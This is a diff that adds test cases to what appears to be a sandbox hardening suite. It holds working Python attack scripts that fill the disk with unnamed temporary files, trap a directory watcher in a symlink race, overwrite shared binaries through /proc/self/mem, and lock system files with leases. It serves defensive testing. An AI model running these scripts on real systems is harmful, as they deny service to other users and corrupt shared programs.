@@ -94,4 +94,64 @@ if attempt(lambda: os.symlink("/etc/passwd", facts["known"]) or True) and not at
     won("the file is a link now")
 attempt(lambda: open(facts["known"], "w").write("changed"))
 """),
+    Attack("removed_files_of_a_headless_process", "files without a name, held where nobody looks, fill the disk", """
+import threading
+def hold():
+    time.sleep(0.1)
+    written, held = 0, []
+    for _ in range(12):
+        held.append(os.open(".", os.O_TMPFILE | os.O_RDWR))
+        written += attempt(os.write, held[-1], bytes(2 << 20)) or 0
+    time.sleep(0.5)
+    if written > 8 << 20:
+        won(f"{written >> 20} MiB")
+    os._exit(0)
+if os.fork() == 0:
+    threading.Thread(target=hold).start()
+    libc.syscall({"x86_64": 60, "aarch64": 93}[os.uname().machine], 0)
+time.sleep(1.2)
+"""),
+    Attack("removed_files_of_a_thread", "a thread with a table of files of its own fills the disk", """
+import threading
+def hold():
+    libc.close_range(63, 63, 2)
+    written, held = 0, []
+    for _ in range(12):
+        held.append(os.open(".", os.O_TMPFILE | os.O_RDWR))
+        written += attempt(os.write, held[-1], bytes(2 << 20)) or 0
+    time.sleep(0.5)
+    if written > 8 << 20:
+        won(f"{written >> 20} MiB")
+threading.Thread(target=hold).start()
+"""),
+    Attack("lead_the_watch_astray", "a folder becomes a link to / while it is looked at, and the look takes for ever", """
+os.makedirs("a/b/c/d")
+for number in range(40):
+    os.makedirs(f"a/{number}/y")
+while True:
+    for change in (os.rename, "a", "t"), (os.symlink, "/", "a"), (os.unlink, "a"), (os.rename, "t", "a"):
+        attempt(*change)
+"""),
+    Attack("memory_of_programs", "a library that all programs share is changed through /proc/self/mem", """
+import mmap
+for path in (os.__file__, sys.executable):
+    with open(path, "rb") as file:
+        shared = mmap.mmap(file.fileno(), 4096, prot=mmap.PROT_READ, flags=mmap.MAP_SHARED)
+        before = shared[:4]
+        libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
+        lines = attempt(lambda: list(open("/proc/self/maps"))) or []
+        start = next((int(line.split("-")[0], 16) for line in lines if path in line and " r--s" in line), None)
+        memory = attempt(os.open, "/proc/self/mem", os.O_RDWR)
+        if start and (libc.mprotect(start, 4096, 3) == 0 or memory and attempt(os.pwrite, memory, b"EVIL", start)):
+            if shared[:4] != before or open(path, "rb").read(4) != before:
+                won(path)
+"""),
+    Attack("hold_a_lease", "others are kept from opening a file of the system", """
+import fcntl
+for path in (sys.executable, os.__file__, "/usr/bin/env"):
+    descriptor = attempt(os.open, path, os.O_RDONLY)
+    for kind in (fcntl.F_RDLCK, fcntl.F_WRLCK):
+        if descriptor is not None and attempt(lambda: fcntl.fcntl(descriptor, 1024, kind) or True):
+            won(path)
+"""),
 )  # fmt: skip
